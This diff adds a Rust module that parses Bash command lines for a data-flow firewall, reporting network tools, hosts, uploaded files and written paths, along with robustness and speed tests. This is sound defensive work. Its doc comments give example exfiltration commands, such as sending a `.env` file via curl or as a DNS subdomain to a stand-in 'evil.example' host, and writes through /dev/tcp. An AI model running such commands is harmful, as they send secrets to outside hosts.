@@ -1,0 +1,223 @@
+//! Shell command-line analysis for the data-flow firewall.
+//!
+//! Pure parsing (no I/O, no filesystem, no environment): given the text of a
+//! Bash command line, report which network-capable tools run, which hosts they
+//! talk to, which local files they send (by path, via a pipeline, or via a
+//! command substitution), whether commits are pushed, and which files are read
+//! or written.
+//!
+//! # Decisions (where the spec left a choice)
+//! * `written_paths`: every file redirect counts, whatever the fd (`> f`,
+//!   `>> f`, `2> f`, `&> f`, `>| f`, `>& f`), plus `tee f`, `cp x f`, `mv x f`,
+//!   `dd of=f`, `sed -i f`, `sort -o f`, `curl -o f`, `wget -O f`, archives
+//!   created by `tar`/`zip`/`7z`, `xxd in out`, `gpg -o`, `openssl -out`, scp/rsync
+//!   download targets. `/dev/null`, `/dev/stdout`, `/dev/stderr`, `/dev/tty`,
+//!   `/dev/fd/N` and `-` are never reported. `/dev/tcp/H/P` and `/dev/udp/H/P`
+//!   become a [`NetUse`] (tool `"/dev/tcp"` / `"/dev/udp"`) instead.
+//! * Output of a command substitution or process substitution used in an
+//!   argument (`curl -d "$(cat .env)"`, `dig $(cat .env).x.example`) is treated
+//!   as data carried by the tool: the paths read inside the substitution go to
+//!   the tool's `stdin_from` (not `upload_paths`).  Paths read by a one-liner's
+//!   code (`open('.env')`, `readFileSync('.env')`, ...) also go to `stdin_from`.
+//! * `stdin_from` = paths read by earlier commands of the same pipeline + paths
+//!   read inside substitutions in the tool's own arguments + `< p` on the tool
+//!   itself (+ the same, inherited, when the tool runs inside `bash -c`, a
+//!   subshell or a `{ }` group whose stdin is a pipe).
+//! * `upload_paths` additionally receives `< p` for raw-stream tools (nc, ncat,
+//!   socat, telnet, ssh, openssl s_client). Every upload path is also added to
+//!   `read_paths`.
+//! * `reads_stdin` is true when the tool is not first in its pipeline (or its
+//!   enclosing `bash -c`/group stdin is a pipe), when it has a `<`, `<<` or `<<<`
+//!   redirect, or when it uses `@-`, `-T -`, `--input -`, etc.
+//! * Hosts: lowercased, without userinfo, port, brackets (IPv6 `[::1]` → `::1`) or
+//!   trailing dot. Dynamic parts (`$VAR`, `$(...)`, backticks, `${..}`) are
+//!   replaced by `*`, so `dig $(cat .env).evil.example` gives `*.evil.example`
+//!   and `curl https://$HOST/x` gives `*`.
+//! * `host.docker.internal` is NOT loopback (it reaches the host machine's
+//!   network stack; treated as external).
+//! * Default hosts are filled in for tools with an implicit destination: `gh`
+//!   → `github.com` (or `--hostname`), `npm/pnpm/bun publish` →
+//!   `registry.npmjs.org`, `yarn publish` → `registry.yarnpkg.com`, `cargo
+//!   publish` → `crates.io`, `twine upload`/`poetry publish`/`uv publish` →
+//!   `upload.pypi.org`, `gem push` → `rubygems.org`, `aws` → `amazonaws.com`
+//!   (or `--endpoint-url`), `gsutil` → `storage.googleapis.com`, `gcloud` →
+//!   `googleapis.com`, `az` → `management.azure.com`.
+//! * git: only `git push` (and `git send-email`) produce a NetUse; `gh repo sync`
+//!   also sets `git_push`. `git add -A/--all` is recorded as `"-A"`, `-u` as
+//!   `"-u"`, `git commit -a/--all` as `"-a"`; pathspecs given to `git commit`
+//!   are recorded too.
+//! * Package managers produce a NetUse only for publish-like subcommands, or
+//!   when a URL / custom index / registry is given on the command line.
+//! * Interpreters (`python`, `node`, `ruby`, `perl`, `php`, `powershell`, `deno`,
+//!   `bun`) produce a NetUse only when inline code (`-c`/`-e`/`-r`/`-Command`,
+//!   `-EncodedCommand` decoded, or a heredoc/here-string fed to `python3 -`)
+//!   contains a network API; `python script.py` is not reported.
+//! * `simple_commands` (also [`ShellFacts::simple_commands`]) returns argv lists (redirections and leading `VAR=x`
+//!   assignments removed) of every simple command, including those inside
+//!   subshells, groups and `$(...)`/backticks (substitutions listed before the
+//!   command using them); strings given to `bash -c`/`eval` are not expanded
+//!   there.
+//!
+//! # Known gaps
+//! * No variable tracking (`U=https://x; curl $U` gives host `*`; `$CURL x` is
+//!   not recognised as curl), no alias/function expansion.
+//! * Writes through previously opened fds (`exec 3<>/dev/tcp/h/p; cat f >&3`) are
+//!   only reported as a connection to `h`, without the data.
+//! * `case` patterns inside `$(...)` can end the substitution early.
+//! * Shell code inside interpreter one-liners (`os.system('curl ...')`) is not parsed.
+//! * `${x:-$(cmd)}` substitutions inside parameter expansions are not analysed.
+//! * Reads of environment variables (`env | curl -d @- x`) are not paths and are
+//!   not reported.
+//!
+//! # Layout
+//! `lex` tokenizes, `parse` builds the `ast`, `facts` walks it and `tools` knows what each
+//! command does with its arguments (`options` parses them, `host` reads hosts).
+
+mod ast;
+mod facts;
+mod host;
+mod lex;
+mod options;
+mod parse;
+#[cfg(test)]
+mod test_util;
+mod tools;
+
+pub use facts::{NetUse, ShellFacts};
+pub use host::is_loopback;
+
+/// Deepest syntax nesting analysed (substitutions, groups, re-parsed strings).
+const MAX_DEPTH: usize = 40;
+/// Deepest nesting of strings re-parsed as shell code (`bash -c`, `eval`, `env -S`, ...).
+const MAX_STR_DEPTH: usize = 12;
+/// Most entries kept in one list of paths or hosts.
+const MAX_ENTRIES: usize = 1024;
+
+/// The pseudo path recorded when a command prints the process environment (`env`, `printenv`,
+/// `export -p`): what it outputs is as sensitive as a credentials file.
+pub const ENVIRONMENT: &str = "<environment>";
+
+/// Parse a shell command line and return the facts (its simple commands included).
+pub fn analyze(command: &str) -> ShellFacts {
+    let script = parse::parse_str(command, 0);
+    let mut facts = facts::Analyzer::run(&script);
+    facts.simple_commands = script.simple_commands();
+    facts
+}
+
+/// Split into simple commands (argv lists after quote removal).
+pub fn simple_commands(command: &str) -> Vec<Vec<String>> {
+    parse::parse_str(command, 0).simple_commands()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn garbage_does_not_panic() {
+        let inputs = [
+            "",
+            " ",
+            "'",
+            "\"",
+            "`",
+            "$(",
+            "$((",
+            "${",
+            "$'\\",
+            "((((((",
+            "))))))",
+            "{ { {",
+            "} } }",
+            "<<",
+            "<<EOF",
+            "<<<",
+            "2>",
+            "&>",
+            "| | |",
+            ";;;",
+            "\\",
+            "a\\",
+            "$'\\x",
+            "$'\\u",
+            "$'\\c",
+            "curl -",
+            "curl --data",
+            "curl -F",
+            "dig @",
+            "scp :",
+            "nc -l",
+            "git",
+            "git -C",
+            "tar",
+            "tar -f",
+            "env -S",
+            "xargs -a",
+            "find -exec",
+            "bash -c",
+            "python3 -c",
+            "perl -e",
+            "ssh",
+            "cat < /dev/tcp/",
+            "echo > /dev/tcp/",
+            "\u{0}\u{1}\u{ff}",
+            "é$(ü`ö`)ä",
+            "$'\\777'",
+            "f() ( )",
+            "x=$( (a) )",
+        ];
+        for i in inputs {
+            let _ = analyze(i);
+            let _ = simple_commands(i);
+        }
+        // pseudo-random bytes
+        let mut x: u32 = 12345;
+        let alphabet = b"ab $()'\"`\\|&;<>{}#\n\t-@:/=.*~!";
+        for _ in 0..300 {
+            let mut v = Vec::new();
+            for _ in 0..200 {
+                x = x.wrapping_mul(1103515245).wrapping_add(12345);
+                v.push(alphabet[(x >> 16) as usize % alphabet.len()]);
+            }
+            let st = String::from_utf8_lossy(&v).into_owned();
+            let _ = analyze(&st);
+            let _ = analyze(&format!("curl {st}"));
+            let _ = analyze(&format!("bash -c {st}"));
+        }
+        let bin: Vec<u8> = (0..=255u8).cycle().take(5000).collect();
+        let _ = analyze(&String::from_utf8_lossy(&bin));
+    }
+
+    #[test]
+    fn deep_nesting_bounded() {
+        let deep = "$(".repeat(100_000);
+        let _ = analyze(&format!("echo {deep}"));
+        let _ = analyze(&"(".repeat(100_000));
+        let _ = analyze(&"{ ".repeat(100_000));
+        let _ = analyze(&"`echo \\`".repeat(10_000));
+        let _ = analyze(&"eval ".repeat(100_000));
+        let _ = analyze(&"env -S env ".repeat(50_000));
+        let _ = analyze(&"bash -c ".repeat(50_000));
+        let _ = analyze(&"f() ".repeat(50_000));
+    }
+
+    #[test]
+    fn large_inputs_are_fast() {
+        let start = std::time::Instant::now();
+        let big = "cat a1 | ".repeat(110_000) + "curl -d @- https://x.example";
+        let f = analyze(&big);
+        assert_eq!(f.net.len(), 1);
+        let mut uniq = String::new();
+        for i in 0..60_000 {
+            uniq.push_str(&format!("cat f{i} | curl -d @- h{i}.example | "));
+        }
+        let _ = analyze(&uniq);
+        let _ = analyze(&"x".repeat(1_000_000));
+        let _ = analyze(&format!("echo '{}'", "y".repeat(1_000_000)));
+        let _ = analyze(&format!("cat <<EOF\n{}", "line\n".repeat(200_000)));
+        let _ = analyze(&"a; ".repeat(300_000));
+        let _ = analyze(&format!("python3 -c \"{}\"", "urlopen('http://a.b/') ".repeat(40_000)));
+        assert!(start.elapsed().as_secs() < 60, "too slow: {:?}", start.elapsed());
+    }
+}
